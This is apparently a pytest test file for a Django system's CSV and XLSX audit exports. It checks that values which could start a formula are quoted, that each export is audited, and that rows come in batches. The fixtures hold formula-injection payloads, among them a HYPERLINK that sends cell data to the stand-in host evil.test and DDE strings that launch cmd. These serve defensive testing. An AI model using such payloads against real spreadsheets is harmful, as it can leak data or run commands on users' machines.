"""Exports of the current filter as CSV and XLSX: what they hold, that nothing in them
can run as a spreadsheet formula, that each export is itself audited, and that rows
come a batch at a time in the list's order."""

from __future__ import annotations

import datetime

import pytest
import time_machine
from django.http import FileResponse, StreamingHttpResponse
from django.test import Client

from permissions import workflow
from permissions.console import exports, selectors
from permissions.models import AuditEvent, ConductRule, PermissionRequest, User
from permissions.workflow import Approval
from tests.factories import submitted_request
from tests.helpers import PKT

from .conftest import csv_rows, references, xlsx_cells

pytestmark = pytest.mark.django_db

DANGEROUS = {
    "topic": '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    "outlet": "+92 300 1234567",
    "summary": "-2+3+cmd|' /C calc'!A0",
}
REASON = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def approved(servant: User, reporting_officer: User) -> PermissionRequest:
    with time_machine.travel(datetime.datetime(2026, 5, 4, 9, 30, tzinfo=PKT), tick=False):
        request = submitted_request(servant, **DANGEROUS)
    with time_machine.travel(datetime.datetime(2026, 5, 6, 15, 0, tzinfo=PKT), tick=False):
        workflow.approve(
            request.pk,
            by=reporting_officer,
            approval=Approval(
                valid_from=datetime.date(2026, 5, 10),
                valid_until=datetime.date(2026, 5, 12),
            ),
        )
    return PermissionRequest.objects.get(pk=request.pk)


@pytest.fixture
def rejected(servant: User, reporting_officer: User) -> PermissionRequest:
    with time_machine.travel(datetime.datetime(2026, 5, 7, 9, 30, tzinfo=PKT), tick=False):
        request = submitted_request(servant, topic="Plain talk on tax filing", outlet="\t=1+1 News")
        workflow.reject(
            request.pk,
            by=reporting_officer,
            reason=REASON,
            rule=ConductRule.objects.get(number="22"),
        )
    return PermissionRequest.objects.get(pk=request.pk)


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_could_start_a_formula_is_quoted(trigger: str) -> None:
    assert exports.inert(f"{trigger}1+1") == f"'{trigger}1+1"


@pytest.mark.parametrize("text", [" =1+1", "\xa0=1+1", "\n@SUM(A1)", "  -2+3"])
def test_a_formula_behind_spaces_is_quoted_too(text: str) -> None:
    assert exports.inert(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Flood relief", "1+1", "MP-2026-000001", "'=1", "a;=1"])
def test_other_text_is_left_alone(text: str) -> None:
    assert exports.inert(text) == text


def test_every_csv_field_is_quoted_so_a_semicolon_cannot_start_a_cell() -> None:
    columns = [exports.column("Topic", "topic")]
    response = exports.csv_response(
        filename="x.csv", columns=columns, fields=("topic",), batches=[[("Budget;=1+1",)]]
    )
    body = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[arg-type]
    assert body.splitlines() == ['"Topic"', '"Budget;=1+1"']


def test_request_csv(
    auditor_browser: Client, approved: PermissionRequest, rejected: PermissionRequest
) -> None:
    response = auditor_browser.get("/audit/requests/export.csv", {"status": "approved"})

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="requests-')
    header, *rows = csv_rows(response)
    assert header[:3] == ["Reference", "Status", "Servant"]
    assert len(rows) == 1
    row = dict(zip(header, rows[0], strict=True))
    assert row["Reference"] == approved.reference
    assert row["Status"] == "Approved"
    assert row["Servant"] == approved.applicant.get_full_name()
    assert row["Organisation"] == "Information Division"
    assert row["Platform category"] == "Television"
    assert row["Submitted"] == "2026-05-04 09:30:00+05:00"
    assert row["Decided"] == "2026-05-06 15:00:00+05:00"
    assert row["Valid from"] == "2026-05-10"
    assert row["Valid until"] == "2026-05-12"
    assert row["Last decided by"] == "reporting"
    assert row["Official information (Rule 18)"] == "No"
    # Inert: each starts with a quote, and otherwise reads as it was written.
    assert row["Topic"] == "'" + DANGEROUS["topic"]
    assert row["Outlet"] == "'" + DANGEROUS["outlet"]
    assert row["What will be said or posted"] == "'" + DANGEROUS["summary"]


def test_request_xlsx(
    auditor_browser: Client, approved: PermissionRequest, rejected: PermissionRequest
) -> None:
    response = auditor_browser.get("/audit/requests/export.xlsx")

    assert isinstance(response, FileResponse)
    assert response["Content-Disposition"].startswith('attachment; filename="requests-')
    content = b"".join(response.streaming_content)
    assert int(response["Content-Length"]) == len(content)
    header, *rows = xlsx_cells(content)
    headings = [text for text, _kind, _formula in header]
    assert headings[:3] == ["Reference", "Status", "Servant"]
    by_reference = {row[0][0]: row for row in rows}
    assert set(by_reference) == {approved.reference, rejected.reference}

    row = by_reference[approved.reference]
    cell = dict(zip(headings, row, strict=False))
    for column, field in [("Topic", "topic"), ("Outlet", "outlet")]:
        text, kind, formula = cell[column]
        assert text == "'" + DANGEROUS[field]
        assert kind in {"inlineStr", "s", "str"}
        assert not formula
    # Dates are real dates (numbers with a date format), not text.
    submitted_text, submitted_kind, _formula = cell["Submitted"]
    assert submitted_kind is None
    assert float(submitted_text) == pytest.approx(46146.395833, abs=1e-5)  # 4 May 2026 09:30
    assert cell["BPS"][:2] == ("17", None)

    other = dict(zip(headings, by_reference[rejected.reference], strict=False))
    assert other["Reasons"][0] == "'" + REASON
    assert other["Outlet"][0] == "'\t=1+1 News"
    # No formula anywhere in the workbook.
    assert not any(formula for row in [header, *rows] for _text, _kind, formula in row)


def test_audit_log_exports_are_inert_too(
    auditor_browser: Client, approved: PermissionRequest, rejected: PermissionRequest
) -> None:
    csv_response = auditor_browser.get("/audit/log/export.csv", {"action": "reject"})
    header, *rows = csv_rows(csv_response)
    assert len(rows) == 1
    row = dict(zip(header, rows[0], strict=True))
    assert row["Action code"] == "reject"
    assert row["Action"] == "Rejected"
    assert row["Request"] == rejected.reference
    assert row["Comment"] == "'" + REASON
    assert row["By (user name)"] == "reporting"
    assert row["When"] == "2026-05-07 09:30:00+05:00"
    assert row["From"] == "Pending"
    assert row["To"] == "Rejected"
    assert row["From code"] == "pending"
    assert row["To code"] == "rejected"

    xlsx = auditor_browser.get("/audit/log/export.xlsx", {"action": "reject"})
    header_cells, *xlsx_rows = xlsx_cells(b"".join(xlsx.streaming_content))
    headings = [text for text, _kind, _formula in header_cells]
    cell = dict(zip(headings, xlsx_rows[0], strict=False))
    assert cell["Comment"][0] == "'" + REASON
    assert not cell["Comment"][2]
    assert not any(formula for row in xlsx_rows for _text, _kind, formula in row)


@pytest.mark.parametrize(
    ("path", "what"), [("/audit/requests/export", "requests"), ("/audit/log/export", "audit_log")]
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_each_export_is_audited_with_its_filters(
    auditor_browser: Client,
    auditor: User,
    approved: PermissionRequest,
    path: str,
    what: str,
    fmt: str,
) -> None:
    filters = (
        {"status": "approved", "submitted_from": "2026-05-01", "text": "evil"}
        if what == "requests"
        else {"action": "approve", "start": "2026-05-01"}
    )
    response = auditor_browser.get(f"{path}.{fmt}", filters, HTTP_USER_AGENT="Audit browser")
    # Recorded before the first byte is sent.
    event = AuditEvent.objects.order_by("-pk").first()
    assert event is not None
    assert event.action == "export"
    assert event.actor == auditor
    assert event.request is None
    assert event.data == {"what": what, "format": fmt, "filters": filters}
    assert event.ip_address == "127.0.0.1"
    assert event.user_agent == "Audit browser"
    b"".join(response.streaming_content)


@pytest.mark.parametrize(
    ("path", "back_to", "filters"),
    [
        ("/audit/requests/export.csv", "/audit/requests/", {"submitted_from": "2026-99-01"}),
        ("/audit/requests/export.xlsx", "/audit/requests/", {"status": "lost"}),
        ("/audit/log/export.csv", "/audit/log/", {"start": "2026-05-02", "end": "2026-05-01"}),
        ("/audit/log/export.xlsx", "/audit/log/", {"action": "explode"}),
    ],
)
def test_an_export_with_bad_filters_goes_back_to_the_list(
    auditor_browser: Client, approved: PermissionRequest, path: str, back_to: str, filters: dict
) -> None:
    exports_before = AuditEvent.objects.filter(action="export").count()
    response = auditor_browser.get(path, filters, follow=True)
    final_url, status = response.redirect_chain[-1]
    assert status == 302
    assert final_url.startswith(back_to + "?")
    html = response.content.decode()
    assert "Correct the filters marked before exporting." in html
    assert 'class="invalid-feedback"' in html
    assert AuditEvent.objects.filter(action="export").count() == exports_before


def test_an_export_holds_what_the_list_shows_in_its_order_a_batch_at_a_time(
    auditor_browser: Client,
    servant: User,
    reporting_officer: User,
    monkeypatch: pytest.MonkeyPatch,
    settings,  # type: ignore[no-untyped-def]
) -> None:
    """Batches of 3 rows over 11 requests that share submission times: every request
    once, in the order of the list's pages."""
    monkeypatch.setattr(selectors, "EXPORT_BATCH_SIZE", 3)
    settings.PAGE_SIZE = 50
    moments = [datetime.datetime(2026, 6, d, 11, 0, tzinfo=PKT) for d in (1, 2)]
    for n in range(11):
        with time_machine.travel(moments[n % 2], tick=False):
            request = submitted_request(servant, topic=f"Talk {n}")
            if n % 3 == 0:
                workflow.approve(request.pk, by=reporting_officer)

    for sort in ["newest", "oldest", "submitted", "decided", "valid_until", "reference"]:
        html = auditor_browser.get("/audit/requests/", {"sort": sort}).content.decode()
        listed = references(html)
        exported = [
            row[0]
            for row in csv_rows(auditor_browser.get("/audit/requests/export.csv", {"sort": sort}))[
                1:
            ]
        ]
        assert exported == listed, sort
        assert len(exported) == 11
